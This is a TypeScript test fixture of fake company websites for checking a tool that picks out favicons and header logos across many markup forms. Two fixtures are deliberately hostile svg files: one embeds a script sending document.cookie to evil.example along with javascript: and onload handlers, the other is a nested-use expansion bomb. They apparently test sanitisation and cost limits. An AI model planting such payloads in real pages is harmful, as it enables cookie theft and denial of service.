// Fixture sites with a logo in the header, in many forms of markup and for both backgrounds.
import {
  ardentia,
  brimstead,
  cobaltino,
  crescentia,
  fennrick,
  grubenkopf,
  havrel,
  jotunfelt,
  kestrelon,
  lumbrick,
  nimbolix,
  orbifant,
  oxaly,
  pellumo,
  petalune,
  pinebarrow,
  ringelweb,
  saltmarina,
  skarvind,
  tarnwick,
  trivolto,
  umbrago,
  voltanea,
  zephyrine,
} from './brands.ts'
import { BLACK, bar, type ColorPair, documentOf, element, plate, WHITE } from './drawings.ts'
import { empty } from './generic.ts'
import { footer, MENU, NAV, SEARCH, SOCIALS } from './parts.ts'
import { avif, cmyk, file, gif, ico, jpeg, photo, png, pngOf, svg, webp } from './renditions.ts'
import { jsonLd, page, type Site } from './site.ts'

const title = (name: string) => `<title>${name}</title>`
const CURRENT_COLOR: ColorPair = ['currentColor', 'currentColor']
const favicon = '<link rel="icon" href="/favicon.ico">'
/** A transparent GIF of one pixel. */
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'

const lockupPngBase64 = pngOf(umbrago.lockup(), 720).toString('base64')
const { width: lockupWidth } = umbrago.lockup()
const svgWithBitmap = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 ${lockupWidth} 64"><image width="${lockupWidth}" height="64" xlink:href="data:image/png;base64,${lockupPngBase64}"/></svg>`

const svgWithScript = documentOf(
  {
    ...ringelweb.lockup(),
    inside: `<script>fetch('https://evil.example/?'+document.cookie)</script><foreignObject width="100" height="20"><div xmlns="http://www.w3.org/1999/xhtml">Hello</div></foreignObject><a href="javascript:alert(1)">${ringelweb.lockup().inside}</a>`,
  },
  'onload="alert(1)"',
)
/** A logo over ten nested definitions that expand to a billion dots. */
const expandingSvg = documentOf({
  ...lumbrick.lockup(),
  inside: `<defs><circle id="d0" r=".01"/>${Array.from({ length: 9 }, (_, at) => `<g id="d${at + 1}">${`<use href="#d${at}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#d9"/>${lumbrick.lockup().inside}`,
})
/** An svg whose colors and mark are in external files. */
const externalFilesSvg = `<?xml-stylesheet type="text/css" href="https://assets.cobaltino.com/brand.css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${cobaltino.lockup().width} 64"><image width="64" height="64" href="https://assets.cobaltino.com/mark.png"/><rect class="ground" width="100%" height="64"/><g transform="translate(78 14) scale(.8)" class="letters">${cobaltino.letters(['', '']).inside.replace(' stroke=""', '')}</g></svg>`

export const HEADERS: Site[] = [
  {
    name: 'an inline svg lockup after social links, menu and search icons, with a favicon of the mark',
    host: 'kestrelon.aero',
    files: {
      '/': page(
        `${title('Kestrelon')}<link rel="icon" type="image/png" sizes="48x48" href="/k48.png">`,
        `<div class="topbar">${SOCIALS}</div><header>${MENU}${SEARCH}<div class="header__brand"><a href="/" title="Kestrelon – to the home page">${element(kestrelon.lockup(), 'role="img" height="40"')}</a></div>${NAV}</header>${footer('Kestrelon')}`,
      ),
      '/k48.png': png(kestrelon.mark(), 48),
    },
    expected: { icon: ['/k48.png'], wordmark: ['inline:7'] },
    why: 'Seven svg elements come before it, but only the lockup links to the home page.',
  },
  {
    name: 'mark and letters as two svg elements of one home link',
    host: 'skarvind-marine.com',
    files: {
      '/': page(
        title('Skarvind Marine'),
        `<header><a class="brand" href="/">${element(skarvind.mark(), 'class="brand-symbol" height="36"')}${element(skarvind.letters(), 'class="brand-logotype" height="20"')}</a>${NAV}</header>`,
      ),
    },
    expected: { icon: ['inline:0'], wordmark: ['inline:1'] },
    why: 'The square drawing is the icon and the wide one is the wordmark.',
  },
  {
    name: 'a header logo that uses a symbol of a sprite in the page',
    host: 'tarnwick-maps.org',
    files: {
      '/': page(
        `${title('Tarnwick Maps')}${favicon}`,
        `<svg style="display:none"><symbol id="i-close" viewBox="0 0 24 24"><path d="M4 4l16 16M20 4L4 20" stroke="#000"/></symbol><symbol id="logo" viewBox="0 0 ${tarnwick.lockup().width} 64">${tarnwick.lockup().inside}</symbol></svg><header><a href="/" class="logo"><svg class="logo__svg" role="img"><use xlink:href="#logo"></use></svg></a><button><svg><use href="#i-close"/></svg></button></header>`,
      ),
      '/favicon.ico': ico(tarnwick.mark(), [16, 32, 48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['inline:1'] },
    why: 'The header element refers to the symbol in the sprite.',
    rendersAs: { 'inline:1': documentOf(tarnwick.lockup()) },
  },
  {
    name: 'a header logo that uses a symbol of a sprite in a file',
    host: 'zephyrine-kites.com',
    files: {
      '/': page(
        `${title('zephyrine kites')}${favicon}`,
        '<header><a href="/" class="logo" aria-label="zephyrine"><svg width="200" height="50"><use href="/assets/sprite.svg#brand"></use></svg></a></header>',
      ),
      '/assets/sprite.svg': file(
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg"><symbol id="arrow" viewBox="0 0 9 9"><path d="M0 0l9 4-9 5z"/></symbol><symbol id="brand" viewBox="0 0 ${zephyrine.lockup().width} 64">${zephyrine.lockup().inside}</symbol></svg>`,
      ),
      '/favicon.ico': ico(zephyrine.mark(), [16, 32]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/assets/sprite.svg#brand', 'inline:0'] },
    why: 'The referenced symbol of the file is the logo.',
    rendersAs: {
      'inline:0': documentOf(zephyrine.lockup()),
      '/assets/sprite.svg#brand': documentOf(zephyrine.lockup()),
    },
  },
  {
    name: 'a picture element with a source for dark color schemes',
    host: 'pellumo-docs.com',
    files: {
      '/': page(
        `${title('pellumo docs')}${favicon}`,
        '<header><a href="/"><picture><source media="(prefers-color-scheme: dark)" srcset="/img/pellumo-on-dark.svg"><img src="/img/pellumo.svg" alt="pellumo logo" height="32"></picture></a></header>',
      ),
      '/img/pellumo-on-dark.svg': svg(pellumo.lockup(['#cfc6ff', '#cfc6ff'])),
      '/img/pellumo.svg': svg(pellumo.lockup()),
      '/favicon.ico': ico(pellumo.mark(), [16, 32]),
    },
    expected: {
      icon: ['/favicon.ico'],
      wordmark: ['/img/pellumo.svg'],
      dark: { wordmark: ['/img/pellumo-on-dark.svg'] },
    },
    why: 'The media query defines the theme of each source.',
  },
  {
    name: 'two images, one hidden by a CSS class; “dark” in the file name means dark letters',
    host: 'orbifant-ui.dev',
    files: {
      '/': page(
        `${title('orbifant UI')}${favicon}`,
        '<header class="bg-white dark:bg-gray-900"><a href="/"><img class="h-8 dark:hidden" src="/logo-dark.svg" alt="orbifant"><img class="hidden h-8 dark:block" src="/logo-light.svg" alt="orbifant"></a></header>',
      ),
      '/logo-dark.svg': svg(orbifant.lockup(['#2b1055', '#8a5cd6'])),
      '/logo-light.svg': svg(orbifant.lockup(['#ffffff', '#ffb3c6'])),
      '/favicon.ico': ico(orbifant.mark(), [16, 32]),
    },
    expected: {
      icon: ['/favicon.ico'],
      wordmark: ['/logo-dark.svg'],
      dark: { wordmark: ['/logo-light.svg'] },
    },
    why: 'White letters belong to dark backgrounds, whatever the file name is.',
  },
  {
    name: 'a white logo over a dark picture, with a navy favicon',
    host: 'havrel-cruises.com',
    files: {
      '/': page(
        `${title('Havrel Cruises')}${favicon}`,
        `<header class="header--transparent"><a href="/" class="navbar-brand"><img src="/img/havrel-white.svg" alt="Havrel Cruises"></a>${NAV}</header><section class="hero"><img src="/img/hero.jpg" alt=""></section>`,
      ),
      '/img/havrel-white.svg': svg(havrel.lockup(WHITE)),
      '/img/hero.jpg': await photo(1600, 700, 2),
      '/favicon.ico': ico(havrel.mark(), [16, 32, 48]),
    },
    expected: {
      icon: ['/favicon.ico'],
      wordmark: [],
      dark: { icon: [], wordmark: ['/img/havrel-white.svg'] },
    },
    why: 'The white letters are legible only on dark, and the navy mark only on light.',
  },
  {
    name: 'a white header logo with a colored copy for the sticky header',
    host: 'ardentia-grill.com',
    files: {
      '/': page(
        `${title('Ardentia Grill')}${favicon}`,
        `<header class="overlay sticky"><a class="logo" href="/"><img class="logo-light" src="/i/logo-light.png" alt="Ardentia"><img class="logo-sticky" src="/i/logo-color.png" alt="Ardentia"></a></header>`,
      ),
      '/i/logo-light.png': png(ardentia.lockup(WHITE), 500),
      '/i/logo-color.png': png(ardentia.lockup(), 500),
      '/favicon.ico': ico(ardentia.mark(), [32]),
    },
    expected: {
      icon: ['/favicon.ico'],
      wordmark: ['/i/logo-color.png'],
      dark: { wordmark: ['/i/logo-light.png', '/i/logo-color.png'] },
    },
    why: 'Light needs the colored logo. Dark accepts both, because the red is legible there too.',
  },
  {
    name: 'an inline logo in currentColor',
    host: 'jotunfelt-tools.dev',
    files: {
      '/': page(
        `${title('jotunfelt tools')}<link rel="icon" type="image/svg+xml" href="/icon.svg">`,
        `<header class="text-slate-900 dark:text-white"><a href="/" aria-label="jotunfelt">${element(jotunfelt.lockup(CURRENT_COLOR), 'class="h-6"')}</a></header>`,
      ),
      '/icon.svg': svg(jotunfelt.mark()),
    },
    expected: {
      icon: ['/icon.svg'],
      wordmark: ['inline:0'],
      dark: { wordmark: ['inline:0'] },
    },
    why: 'currentColor is dark on light backgrounds and white on dark ones.',
    rendersAs: { 'inline:0': documentOf(jotunfelt.lockup(BLACK)) },
  },
  {
    name: 'a JSON-LD graph whose Organization refers to its logo by @id, with a wordmark in the header',
    host: 'pinebarrow-lodge.com',
    files: {
      '/': page(
        `${title('Pinebarrow Lodge')}${jsonLd({
          '@context': 'https://schema.org',
          '@graph': [
            { '@type': 'WebSite', publisher: { '@id': 'https://pinebarrow-lodge.com/#org' } },
            {
              '@type': ['Organization', 'Hotel'],
              '@id': 'https://pinebarrow-lodge.com/#org',
              name: 'Pinebarrow',
              logo: { '@id': '#/schema/logo/image/' },
            },
            {
              '@type': 'ImageObject',
              '@id': '#/schema/logo/image/',
              width: 696,
              height: 696,
              contentUrl: 'https://pinebarrow-lodge.com/uploads/pine-696.png',
            },
          ],
        })}`,
        '<header><a href="/" class="site-logo"><img src="/uploads/pinebarrow-text.svg" alt="Pinebarrow"></a></header>',
      ),
      '/uploads/pine-696.png': png(plate(pinebarrow.mark(), '#ffffff', 0, 7), 696),
      '/uploads/pinebarrow-text.svg': svg(pinebarrow.letters()),
    },
    expected: { icon: ['/uploads/pine-696.png'], wordmark: ['/uploads/pinebarrow-text.svg'] },
    why: 'The graph has the mark, and the header has the wordmark.',
  },
  {
    name: 'a JSON-LD logo that is a wide wordmark, with a header in text',
    host: 'saltmarina-yachts.gr',
    files: {
      '/': page(
        `${title('Saltmarina')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'LocalBusiness', name: 'Saltmarina', logo: { '@type': 'ImageObject', url: '/brand/saltmarina.png' } })}`,
        `<header><h1>Saltmarina</h1>${NAV}</header>`,
        'el',
      ),
      '/brand/saltmarina.png': png(saltmarina.letters(), 720),
      '/favicon.ico': ico(saltmarina.mark(), [16, 32, 48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/brand/saltmarina.png'] },
    why: 'A wide logo is a wordmark, also in JSON-LD.',
  },
  {
    name: 'a JSON-LD logo that is a 1200×630 photograph for social previews',
    host: 'oxaly-garden.nl',
    files: {
      '/': page(
        `${title('oxaly')}<link rel="icon" href="/o.png" sizes="64x64"><meta property="og:image" content="https://oxaly-garden.nl/social.jpg">${jsonLd({ '@context': 'https://schema.org', '@type': 'Organization', name: 'oxaly', logo: 'https://oxaly-garden.nl/social.jpg' })}`,
        '<header><a href="/"><img src="/oxaly.svg" alt="oxaly"></a></header>',
        'nl',
      ),
      '/o.png': png(oxaly.mark(), 64),
      '/social.jpg': await photo(1200, 630, 4),
      '/oxaly.svg': svg(oxaly.letters()),
    },
    expected: { icon: ['/o.png'], wordmark: ['/oxaly.svg'] },
    why: 'A photograph is never a logo.',
  },
  {
    name: 'a logo only as a CSS background, with a favicon',
    host: 'trivolto-fluid.ch',
    files: {
      '/': page(
        `${title('Trivolto')}${favicon}<style>.logo{background:url(/img/bg-logo.png) no-repeat;width:220px;height:64px;text-indent:-999em}</style>`,
        `<header><a href="/" class="logo">Trivolto</a>${NAV}</header>`,
        'de',
      ),
      '/img/bg-logo.png': png(trivolto.lockup(), 440),
      '/favicon.ico': ico(trivolto.mark(), [16, 32, 64], 'png'),
    },
    expected: { icon: ['/favicon.ico'] },
    why: 'The favicon is sufficient. The wordmark is only in the stylesheet and not required.',
  },
  {
    name: 'a header logo in three densities',
    host: 'nimbolix-air.com',
    files: {
      '/': page(
        title('nimbolix air'),
        '<header><a href="/" class="logo"><img src="/l/logo.png" srcset="/l/logo.png 1x, /l/logo@2x.png 2x, /l/logo@3x.png 3x" alt="nimbolix" width="150" height="32"></a></header>',
      ),
      '/l/logo.png': png(nimbolix.lockup(), 150),
      '/l/logo@2x.png': png(nimbolix.lockup(), 300),
      '/l/logo@3x.png': png(nimbolix.lockup(), 450),
    },
    expected: { icon: [], wordmark: ['/l/logo@3x.png', '/l/logo@2x.png'] },
    why: 'All densities show the same logo, and the larger files show more detail.',
  },
  {
    name: 'a lazy-loaded header logo: a placeholder in src, the file in data-src',
    host: 'brimstead-homes.com',
    files: {
      '/': page(
        `${title('Brimstead Homes')}${favicon}`,
        `<header><a href="/"><img class="lazyload logo" src="${PIXEL}" data-src="/media/brimstead.png" alt="Brimstead Homes"></a></header>`,
      ),
      '/media/brimstead.png': png(brimstead.lockup(), 512),
      '/favicon.ico': ico(brimstead.mark(), [32]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/media/brimstead.png'] },
    why: 'The placeholder is a transparent pixel.',
  },
  {
    name: 'a header logo only in noscript',
    host: 'voltanea-cells.com',
    files: {
      '/': page(
        `${title('voltanea')}${favicon}`,
        `<header><a href="/"><span class="gatsby-image" data-logo></span><noscript><img src="/static/voltanea-a81f.webp" alt="voltanea logo"></noscript></a></header>`,
      ),
      '/static/voltanea-a81f.webp': await webp(voltanea.lockup(), 480),
      '/favicon.ico': ico(voltanea.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/static/voltanea-a81f.webp'] },
    why: 'noscript has the image that the script would insert. WebP is an accepted format.',
  },
  {
    name: 'an svg header logo that only contains a bitmap',
    host: 'umbrago-rain.co.uk',
    files: {
      '/': page(
        `${title('Umbrago')}${favicon}`,
        '<header><a href="/" class="logo"><img src="/img/logo.svg" alt="Umbrago"></a></header>',
      ),
      '/img/logo.svg': file('image/svg+xml', svgWithBitmap),
      '/favicon.ico': ico(umbrago.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/img/logo.svg'] },
    why: 'The bitmap inside is the logo, 720 px wide.',
  },
  {
    name: 'an svg header logo with script, handlers and foreignObject, and a PNG in JSON-LD',
    host: 'ringelweb-studio.de',
    files: {
      '/': page(
        `${title('ringelweb')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'Corporation', logo: '/img/ringelweb.png' })}`,
        '<header><a href="/"><img src="/img/ringelweb.svg" alt="ringelweb"></a></header>',
        'de',
      ),
      '/img/ringelweb.svg': file('image/svg+xml', svgWithScript),
      '/img/ringelweb.png': png(ringelweb.lockup(), 600),
      '/favicon.ico': ico(ringelweb.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/img/ringelweb.svg', '/img/ringelweb.png'] },
    why: 'The sanitized svg and the bitmap show the same logo.',
    rendersAs: { '/img/ringelweb.svg': documentOf(ringelweb.lockup()) },
  },
  {
    name: 'an svg header logo that expands to a billion elements, and a PNG in JSON-LD',
    host: 'lumbrick-blocks.com',
    files: {
      '/': page(
        `${title('Lumbrick')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'Organization', logo: '/img/lumbrick.png' })}`,
        '<header><a href="/"><img src="/img/lumbrick.svg" alt="Lumbrick"></a></header>',
      ),
      '/img/lumbrick.svg': file('image/svg+xml', expandingSvg),
      '/img/lumbrick.png': png(lumbrick.lockup(), 600),
      '/favicon.ico': ico(lumbrick.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/img/lumbrick.png'] },
    why: 'The svg is too expensive to render; the bitmap shows the same logo.',
  },
  {
    name: 'an svg header logo that is black without its external stylesheet, and a complete PNG of it',
    host: 'cobaltino.com',
    files: {
      '/': page(
        `${title('cobaltino')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'Organization', logo: '/brand/cobaltino.png' })}`,
        '<header><a href="/"><img src="/brand/cobaltino.svg" alt="cobaltino"></a></header>',
      ),
      '/brand/cobaltino.svg': file('image/svg+xml', externalFilesSvg),
      '/brand/cobaltino.png': png(cobaltino.lockup(), 640),
      'https://assets.cobaltino.com/brand.css': file(
        'text/css',
        '.letters g{stroke:#1d3fbb}.ground{fill:none}',
      ),
      'https://assets.cobaltino.com/mark.png': png(cobaltino.mark(), 128),
      '/favicon.ico': ico(cobaltino.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/brand/cobaltino.png'] },
    why: 'Without its external files the svg is a black bar.',
  },
  {
    name: 'a header logo in AVIF only',
    host: 'crescentia-hotels.com',
    files: {
      '/': page(
        `${title('Crescentia Hotels')}${favicon}`,
        '<header><a href="/" rel="home"><img src="/_img/crescentia.avif" alt="Crescentia"></a></header>',
      ),
      '/_img/crescentia.avif': await avif(crescentia.lockup(), 480),
      '/favicon.ico': ico(crescentia.mark(), [48]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/_img/crescentia.avif'] },
    why: 'Every current browser supports AVIF.',
  },
  {
    name: 'an animated GIF as header logo',
    host: 'petalune-retro.org',
    files: {
      '/': page(
        title('Petalune'),
        '<center><a href="index.html"><img src="images/petalune_anim.gif" alt="Petalune logo" border=0></a></center>',
      ),
      '/index.html': page(title('Petalune'), ''),
      '/images/petalune_anim.gif': await gif(
        [petalune.mark(), plate(petalune.mark(), null, 0, 3), plate(petalune.mark(), null, 0, 6)],
        120,
      ),
    },
    expected: { icon: ['/images/petalune_anim.gif'], wordmark: null },
    why: 'The first frame is the complete mark.',
    rendersAs: { '/images/petalune_anim.gif': documentOf(plate(petalune.mark(), '#ffffff', 0, 0)) },
  },
  {
    name: 'a CMYK JPEG for print as header logo',
    host: 'grubenkopf-druck.de',
    files: {
      '/': page(
        title('Grubenkopf Druck'),
        '<div id="kopf"><a href="/"><img src="/bilder/GRUBENKOPF_4c.jpg" alt="Logo" width="300"></a></div>',
        'de',
      ),
      '/bilder/GRUBENKOPF_4c.jpg': await cmyk(bar(grubenkopf.lockup(), '#ffffff', 8), 900),
    },
    expected: { icon: [], wordmark: ['/bilder/GRUBENKOPF_4c.jpg'] },
    why: 'CMYK is only a color space; the logo is black on white.',
  },
  {
    name: 'a JPEG header logo on the page’s grey, and the same logo as svg in the footer',
    host: 'fennrick-sports.com',
    files: {
      '/': page(
        `${title('Fennrick Sports')}${favicon}`,
        '<header><a href="/" class="logo"><img src="/a/logo.jpg" alt="Fennrick"></a></header><footer><a href="/" class="footer-logo"><img src="/a/logo.svg" alt="Fennrick"></a></footer>',
      ),
      '/a/logo.jpg': await jpeg(bar(fennrick.lockup(), '#d9d9d9', 20), 300),
      '/a/logo.svg': svg(fennrick.lockup()),
      '/favicon.ico': ico(fennrick.mark(), [32]),
    },
    expected: { icon: ['/favicon.ico'], wordmark: ['/a/logo.svg'] },
    why: 'Both files show the same lockup, one of them on a grey box.',
  },
  {
    name: 'an empty svg in a loading indicator before the logo',
    host: 'trivolto-lab.org',
    files: {
      '/': page(
        title('Trivolto Lab'),
        `<div class="preloader logo">${element(empty)}</div><header><a href="/">${element(trivolto.lockup(), 'id="Layer_1" data-name="Layer 1"')}</a></header>`,
      ),
    },
    expected: { icon: [], wordmark: ['inline:1'] },
    why: 'An empty svg is not a logo.',
  },
]
